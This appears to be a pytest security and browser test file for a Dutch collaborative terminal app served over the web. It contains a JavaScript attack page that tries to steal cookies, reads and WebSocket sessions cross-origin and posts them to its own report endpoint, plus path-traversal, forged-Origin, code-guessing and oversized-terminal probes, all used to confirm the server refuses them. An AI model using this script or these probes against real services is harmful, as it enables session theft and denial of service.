"""The app in a real headless browser: `samenwerken serve`, Debian's chromium, driven over the DevTools protocol.

No browser is downloaded: the test uses /usr/bin/chromium (`.ci/run` installs the
package when it is missing) and speaks the DevTools protocol over aiohttp's
websocket client, which textual-serve brings along.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import re
import select
import signal
import subprocess
import sys
import tempfile
import urllib.error
import urllib.request
from base64 import b64decode
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.helpers.browser import DevTools, needs_browser, opened_browser, send_in_form, until
from tests.helpers.served import served_room
from tests.helpers.terminal import answers_in, free_port
from tui.session import SessionStore
from tui.session.store import export_name

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parent.parent
SCREENSHOT = ROOT / "docs" / "browser.png"


@pytest.fixture
def served(tmp_path: Path) -> Iterator[tuple[str, SessionStore]]:
    """`samenwerken serve` on a free port; yields the printed URL and the sessions folder."""
    store = SessionStore(tmp_path / "sessions")
    store.create("In de browser")
    port = free_port()
    process = subprocess.Popen(
        [sys.executable, "-m", "tui", "--sessions-dir", str(store.root), "serve", "--port", str(port)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=ROOT,
    )
    try:
        assert process.stdout is not None
        ready, _, _ = select.select([process.stdout], [], [], 30)
        line = process.stdout.readline().decode() if ready else ""
        assert line.startswith("Open in je browser: http://127.0.0.1:"), line
        yield line.split(": ", 1)[1].strip(), store
    finally:
        process.send_signal(signal.SIGINT)
        try:
            process.wait(15)
        except subprocess.TimeoutExpired:
            process.kill()


def status_of(url: str) -> int:
    try:
        with urllib.request.urlopen(url, timeout=10) as response:
            return int(response.status)
    except urllib.error.HTTPError as error:
        return error.code


def test_a_request_without_the_token_is_refused(served: tuple[str, SessionStore]) -> None:
    url, _ = served
    base = url.split("?")[0]
    token = url.split("token=")[1]
    assert status_of(url) == 200
    assert status_of(f"{base}static/{token}/js/textual.js") == 200
    for path in ("", "?token=wrong", "ws", "ws/wrong", "static/js/textual.js", "static/wrong/js/textual.js",
                 "download/x", f"download/x?token={token[:-1]}"):  # fmt: skip
        assert status_of(base + path) == 403, path
    for path in (f"static/{token}/images/background.png", f"static/{token}/../server.py", f"download/x?token={token}"):
        assert status_of(base + path) == 404, path  # nothing but the page's own two files; no such download


async def settled_screenshot(tools: DevTools, blank: str = "") -> str:
    """The page once two screenshots in a row are the same and not `blank` (the app has drawn); base64 PNG."""
    shots = [""]

    async def same_twice() -> bool:
        shot = (await tools.call("Page.captureScreenshot", format="png"))["data"]
        same = shot == shots[-1] and shot != blank
        shots.append(shot)
        return same

    await until(same_twice)
    return shots[-1]


async def open_app(tools: DevTools, url: str) -> None:
    """Load the page, wait for the app's first bytes (textual-serve marks the body) and its first screen."""
    await tools.call("Page.navigate", url=url)
    await until(lambda: tools.evaluate("document.querySelector('.textual-terminal') !== null"))
    blank = (await tools.call("Page.captureScreenshot", format="png"))["data"]
    await until(lambda: tools.evaluate("document.body.classList.contains('-first-byte')"))
    await tools.evaluate("document.querySelector('.xterm-helper-textarea').focus()")
    await settled_screenshot(tools, blank)


async def drive(url: str, store: SessionStore, profile: Path, downloads: Path) -> None:
    async with opened_browser(profile) as tools:
        await tools.call("Page.enable")
        await tools.call("Browser.setDownloadBehavior", behavior="allow", downloadPath=str(downloads))
        await open_app(tools, url)
        stored = store.scan()[0][0]
        lock = store.root / ".locks" / f"{stored.path.name}.lock"
        await tools.press("enter")  # resume the reflection on the home screen
        await until(lock.exists)  # the walk has the session open
        for n, key in enumerate("123", start=1):
            await tools.press(key)
            await until(lambda n=n: len(answers_in(stored.path)) == n)
        await tools.press("tab")  # the browser leaves Tab to the app: the next part
        await tools.press("4")
        await until(lambda: answers_in(stored.path).get("helpt.urgentie") == 4)
        shot = await settled_screenshot(tools)  # the page has caught up with the app
        SCREENSHOT.parent.mkdir(exist_ok=True)
        SCREENSHOT.write_bytes(b64decode(shot))

        # An export from the overview arrives as a download, not as a file on the server.
        await tools.press("o")
        await tools.press("e")
        await tools.press("enter")  # the first format: Markdown
        done = downloads / export_name(stored.session, "md")
        await until(done.exists)


def test_three_answers_typed_in_a_browser_are_in_the_session_file(served: tuple[str, SessionStore]) -> None:
    needs_browser()
    url, store = served
    downloads = store.root.parent / "downloads"
    downloads.mkdir()
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        asyncio.run(drive(url, store, Path(profile), downloads))
    stored = store.scan()[0][0]
    path = stored.path
    assert answers_in(path) == {
        "waarom.geen-noodzaak": 1,
        "waarom.niet-op-netvlies": 2,
        "waarom.niet-willen": 3,
        "helpt.urgentie": 4,
    }
    assert SCREENSHOT.stat().st_size > 10_000
    report = (downloads / export_name(stored.session, "md")).read_text("utf-8")  # named for its title and day
    assert report.startswith("# In de browser")
    assert not (store.root / "exports").exists()  # nothing left on the server


# A page on another port of the same machine, trying what a neighbour's page would ----------------------------

ATTACK = """<!DOCTYPE html><meta charset="utf-8"><script>
(async () => {
  const target = TARGET, got = {cookie: document.cookie, reads: [], sockets: []};
  for (const path of PATHS) {
    try {
      const response = await fetch(target + path, {credentials: "include"});
      got.reads.push(path + " " + response.status + " " + (await response.text()).slice(0, 200));
    } catch (error) { got.reads.push(path + " refused"); }
  }
  for (const path of SOCKETS) {
    got.sockets.push(await new Promise((done) => {
      let opened = false, seen = 0;
      const socket = new WebSocket(target.replace("http", "ws") + path + "?width=80&height=24");
      socket.onopen = () => { opened = true; };
      socket.onmessage = () => { seen += 1; };
      const end = () => done({path, opened, seen});
      socket.onclose = end; socket.onerror = end; setTimeout(end, 5000);
    }));
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(got)});
})();
</script>"""


async def attack_from_another_port(tools: DevTools, target: str, paths: list[str], sockets: list[str]) -> Any:
    """Open a second tab on a page served from another port of 127.0.0.1; what its script got back."""
    from aiohttp import web

    report: asyncio.Future[Any] = asyncio.get_running_loop().create_future()
    script = ATTACK.replace("TARGET", json.dumps(target)).replace("PATHS", json.dumps(paths))
    script = script.replace("SOCKETS", json.dumps(sockets))

    async def page(request: web.Request) -> web.Response:
        return web.Response(text=script, content_type="text/html")

    async def reported(request: web.Request) -> web.Response:
        if not report.done():
            report.set_result(json.loads(await request.text()))
        return web.Response(text="ok")

    app = web.Application()
    app.add_routes([web.get("/", page), web.post("/report", reported)])
    runner = web.AppRunner(app)
    await runner.setup()
    port = free_port()
    await web.TCPSite(runner, "127.0.0.1", port).start()
    try:
        await tools.call("Target.createTarget", url=f"http://127.0.0.1:{port}/")
        return await asyncio.wait_for(report, 60)
    finally:
        await runner.cleanup()


def assert_got_nothing(got: Any) -> None:
    assert got["cookie"] == "", got
    assert all(read.endswith(" refused") for read in got["reads"]), got
    assert all(not s["opened"] and s["seen"] == 0 for s in got["sockets"]), got


async def cookies(tools: DevTools) -> list[Any]:
    return list((await tools.call("Network.getAllCookies"))["cookies"])


async def steal_from_serve(url: str, profile: Path) -> Any:
    import aiohttp

    base = url.split("?")[0]
    token = url.split("token=")[1]
    async with opened_browser(profile) as tools:
        await tools.call("Page.enable")
        await open_app(tools, url)  # the person's own tab: the app is running
        assert await cookies(tools) == []
        got = await attack_from_another_port(
            tools, base.rstrip("/"), ["/", f"/?token={token}", "/static/x/js/textual.js"], ["/ws", "/ws/x"]
        )
    # Even a page that somehow knew the token is refused: the Origin is not this server's.
    foreign = {"Origin": "http://127.0.0.1:1"}
    async with aiohttp.ClientSession() as http:
        async with http.get(url, headers=foreign) as response:
            assert response.status == 403
        with pytest.raises(aiohttp.WSServerHandshakeError) as refused:
            await http.ws_connect(f"{base}ws/{token}", headers=foreign)
        assert refused.value.status == 403
        async with http.get(url) as response:  # without an Origin (curl), the token is enough
            assert response.status == 200 and "Set-Cookie" not in response.headers
    return got


def test_a_page_on_another_port_gets_neither_the_token_nor_the_screen(served: tuple[str, SessionStore]) -> None:
    needs_browser()
    url, _ = served
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        got = asyncio.run(steal_from_serve(url, Path(profile)))
    assert_got_nothing(got)


# A room's browser door ----------------------------------------------------------------------------------------


def warm_parent(pid: int) -> bool:
    """The room's warm parent (`tui.cli.zygote`): it starts with the room, before any code; its seats count."""
    with contextlib.suppress(OSError):
        return b"tui.cli.zygote" in Path(f"/proc/{pid}/cmdline").read_bytes()
    return False


def descendants(pid: int) -> list[int]:
    """Every app below `pid` (from /proc: children's children too), the room's warm parent not counted."""
    parents: dict[int, int] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError, IndexError, ValueError):
                parents[int(entry.name)] = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
    found, todo = [], [pid]
    while todo:
        parent = todo.pop()
        children = [child for child, ppid in parents.items() if ppid == parent]
        found += [child for child in children if not warm_parent(child)]
        todo += children
    return found


def environ(pid: int) -> dict[str, str]:
    pairs = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
    return dict(p.decode(errors="replace").split("=", 1) for p in pairs if b"=" in p)


def rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0


async def code_page(http: Any, url: str) -> str | None:
    """A code form's page id (None when refused)."""
    async with http.get(url) as response:
        page = re.search(r'name="page" value="([^"]+)"', await response.text())
        return page.group(1) if page else None


async def ticket_for(http: Any, url: str, code: str, page: str | None = None) -> str:
    """What a tab does on the code form, over plain HTTP: the ticket a right code gives."""
    page = page or await code_page(http, url)
    assert page is not None
    async with http.post(url, data={"page": page, "code": code}, allow_redirects=False) as response:
        assert response.status == 303, response.status
        return str(response.headers["Location"]).split("ticket=", 1)[1]


async def no_app_before_a_ticket(pid: int, url: str, codes: list[str], folder: Any) -> None:
    import aiohttp

    from tui.session.lock import SessionLock

    async with aiohttp.ClientSession() as http:
        pages = []
        for n in range(20):  # tabs that never gave a code
            with pytest.raises(aiohttp.WSServerHandshakeError):
                await http.ws_connect(f"{url}ws/{'x' * n}?width=80&height=24")
            pages.append(await code_page(http, url))
        assert descendants(pid) == []
        assert all(pages)  # twenty open code pages: a room's worth behind one venue address is fine
        # A tab asking for a 65535×65535 terminal gets one app, at most 500×200, however it resizes.
        ticket = await ticket_for(http, url, codes[0], pages[0])
        async with http.ws_connect(f"{url}ws/{ticket}?width=65535&height=65535") as websocket:
            lock = SessionLock(folder.seat_path("A"))
            await until(lambda: lock.holder_pid() is not None)
            app = lock.holder_pid()
            assert app in descendants(pid)
            assert (environ(app)["COLUMNS"], environ(app)["ROWS"]) == ("500", "200")
            await websocket.send_str(json.dumps(["resize", {"width": 65535, "height": 65535}]))
            await websocket.send_str(json.dumps(["resize", {"width": "1e9", "height": -5}]))
            await websocket.send_str(json.dumps(["resize", {"width": 65535, "height": 65535}]))
            seen = 0  # a 500×200 screen is drawn (about 100 kB); a 65535² one chokes the app (under 100 bytes)
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(30):
                    async for message in websocket:
                        seen += len(message.data) if isinstance(message.data, bytes | str) else 0
                        if seen >= 50_000:
                            break
            biggest = rss_mb(app)
            print(f"a 65535x65535 tab: app at {biggest:.0f} MB after {seen} bytes of screen")
            assert seen >= 50_000 and biggest < 150
        await until(lambda: descendants(pid) == [])  # the tab closed: its app saved and left


def test_no_app_starts_before_a_code_and_a_tab_cannot_ask_for_a_huge_terminal(tmp_path: Path) -> None:
    with served_room(tmp_path) as (process, folder, codes, url):
        asyncio.run(no_app_before_a_ticket(process.pid, url, codes, folder))


async def drained(websocket: Any) -> None:
    async for _ in websocket:
        pass


async def join_room_in_browser(pid: int, url: str, codes: list[str], folder: Any, profile: Path) -> Any:
    import aiohttp

    from tui.content.i18n import strings_for
    from tui.session.lock import SessionLock

    nl = strings_for("nl")
    lock = SessionLock(folder.seat_path("B"))
    async with aiohttp.ClientSession() as http:
        # Seat B is open in another tab already.
        elsewhere = await http.ws_connect(f"{url}ws/{await ticket_for(http, url, codes[1])}?width=80&height=24")
        reading = asyncio.create_task(drained(elsewhere))
        await until(lambda: lock.holder_pid() is not None)
        first_app = lock.holder_pid()
        async with opened_browser(profile) as tools:
            await tools.call("Page.enable")
            await tools.call("Page.navigate", url=url)
            await until(lambda: tools.evaluate("document.getElementById('code') !== null"))
            label = await tools.evaluate("document.querySelector('label[for=code]').textContent")
            assert label == nl("web.code.label")
            # Wrong codes: the form says so, in Dutch; after five, it says when to try again.
            for n in range(5):
                assert await send_in_form(tools, f"kaas-molen-0{n}") == nl("room.code_wrong")
            wait = await send_in_form(tools, "kaas-molen-05")
            assert re.fullmatch(
                r"Te veel verkeerde codes vanaf dit adres\. Probeer het over \d+ seconden opnieuw\.", wait
            )

            # The right code, once the wait is over: the seat's app, which takes the seat over from the other tab.
            async def accepted() -> bool:
                return await send_in_form(tools, codes[1]) == ""

            await until(accepted)
            await until(lambda: tools.evaluate("document.querySelector('.textual-terminal') !== null"))
            await until(lambda: tools.evaluate("document.body.classList.contains('-first-byte')"))
            await until(lambda: lock.holder_pid() not in (None, first_app))
            await until(reading.done)  # the other tab's connection has ended
            assert not Path(f"/proc/{first_app}").exists()
            await tools.evaluate("document.querySelector('.xterm-helper-textarea').focus()")
            await settled_screenshot(tools)
            await tools.press("enter")  # the welcome: on to the walk
            await tools.press("2")
            await until(lambda: answers_in(folder.seat_path("B")) == {"waarom.geen-noodzaak": 2})
            assert await cookies(tools) == []
            got = await attack_from_another_port(tools, url.rstrip("/"), ["/", "/seat?ticket=x"], ["/ws", "/ws/x"])
        await elsewhere.close()
    await until(lambda: descendants(pid) == [])  # the tab closed, its app left
    return got


def test_a_participant_joins_a_room_from_a_browser_tab_with_their_code(tmp_path: Path) -> None:
    needs_browser()
    with (
        served_room(tmp_path) as (process, folder, codes, url),
        tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile,
    ):
        got = asyncio.run(join_room_in_browser(process.pid, url, codes, folder, Path(profile)))
    assert_got_nothing(got)
    assert answers_in(folder.seat_path("A")) == {}


def seat_apps(pid: int) -> list[int]:
    def is_seat(child: int) -> bool:
        with contextlib.suppress(OSError):
            return b"seat" in Path(f"/proc/{child}/cmdline").read_bytes().split(b"\0")
        return False

    return [child for child in descendants(pid) if is_seat(child)]


async def two_tabs_on_one_seat(pid: int, url: str, codes: list[str]) -> None:
    import aiohttp

    async with aiohttp.ClientSession() as http:
        tickets = [await ticket_for(http, url, codes[0]) for _ in range(2)]
        sockets = await asyncio.gather(*(http.ws_connect(f"{url}ws/{t}?width=80&height=24") for t in tickets))
        readers = [asyncio.create_task(drained(s)) for s in sockets]
        most, seen = 0, set[int]()

        def second_alone() -> bool:  # the later tab's app runs, after the earlier one's app has gone
            nonlocal most, seen
            apps = seat_apps(pid)
            most, seen = max(most, len(apps)), seen | set(apps)
            return len(seen) == 2 and len(apps) == 1 and sum(r.done() for r in readers) == 1

        await until(second_alone)
        assert most == 1
        for s in sockets:
            await s.close()
    await until(lambda: seat_apps(pid) == [])


def test_two_tabs_with_one_code_at_the_same_moment_make_one_app(tmp_path: Path) -> None:
    with served_room(tmp_path) as (process, _, codes, url):
        asyncio.run(two_tabs_on_one_seat(process.pid, url, codes))


async def left_idle(pid: int, url: str, codes: list[str]) -> None:
    import aiohttp

    async with aiohttp.ClientSession() as http:
        websocket = await http.ws_connect(f"{url}ws/{await ticket_for(http, url, codes[0])}?width=80&height=24")
        reading = asyncio.create_task(drained(websocket))
        await until(lambda: len(seat_apps(pid)) == 1)
        await until(reading.done)  # no key for 3 seconds: the tab is closed
        await until(lambda: seat_apps(pid) == [])  # and its app has left


def test_a_tab_without_a_key_for_the_idle_time_is_closed(tmp_path: Path) -> None:
    with served_room(tmp_path, 2, "--idle-minutes", "0.05") as (process, _, codes, url):
        asyncio.run(left_idle(process.pid, url, codes))


async def app_leaves(pid: int, url: str, codes: list[str], folder: Any) -> None:
    import aiohttp

    from tui.session.lock import SessionLock

    async with aiohttp.ClientSession() as http:
        websocket = await http.ws_connect(f"{url}ws/{await ticket_for(http, url, codes[0])}?width=80&height=24")
        reading = asyncio.create_task(drained(websocket))
        lock = SessionLock(folder.seat_path("A"))
        await until(lambda: lock.holder_pid() is not None and len(seat_apps(pid)) == 1)
        app = lock.holder_pid()
        assert app is not None
        os.kill(app, signal.SIGHUP)  # what a login with the same code elsewhere (over SSH) sends it
        await until(reading.done)  # the tab is told: its connection closes, no frozen screen
        assert websocket.close_code == 4001  # …and why: its page says the seat was taken over
        await until(lambda: seat_apps(pid) == [])


def test_a_tab_whose_app_leaves_is_closed(tmp_path: Path) -> None:
    with served_room(tmp_path) as (process, folder, codes, url):
        asyncio.run(app_leaves(process.pid, url, codes, folder))
